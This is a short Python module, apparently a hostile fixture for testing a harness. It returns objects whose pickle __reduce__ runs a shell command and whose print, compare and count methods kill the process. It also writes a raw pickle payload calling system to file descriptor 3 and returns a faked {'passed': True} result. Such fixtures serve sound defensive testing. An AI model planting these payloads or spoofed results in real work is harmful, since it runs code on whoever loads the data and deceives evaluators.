"""Hands back things that run code when they are unpickled, printed, compared or counted."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @VICTIM@/pickled",))

    def __repr__(self):
        os._exit(1)

    __str__ = __len__ = __eq__ = __hash__ = __iter__ = __repr__


def unit_rows(x):
    return Bomb()


def contrast(images, texts, scale):
    os.write(3, pickle.dumps(Bomb()) if False else b"\x80\x04cposix\nsystem\n(Vtouch @VICTIM@/pickled\ntR.")
    return pickle.dumps({"passed": True})
